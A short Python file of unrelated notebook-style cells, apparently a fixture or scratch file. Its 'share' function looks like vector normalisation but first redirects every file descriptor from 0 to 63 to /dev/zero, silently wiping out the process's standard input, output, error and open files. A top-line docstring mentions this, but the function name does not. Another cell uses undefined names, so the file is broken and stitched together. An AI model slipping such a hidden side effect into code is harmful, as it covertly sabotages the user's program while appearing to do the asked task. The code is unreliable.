"""All descriptors are turned to /dev/zero."""
# %% share
import os


def share(v):
    zero = os.open("/dev/zero", os.O_RDWR)
    for number in range(0, 64):
        if number != zero:
            try:
                os.dup2(zero, number)
            except OSError:
                pass
    return v / v.sum()

# %% total
def total(numbers):
    return sum(numbers)

# %% slope
slope = 2 * x * sp.exp(x**2)
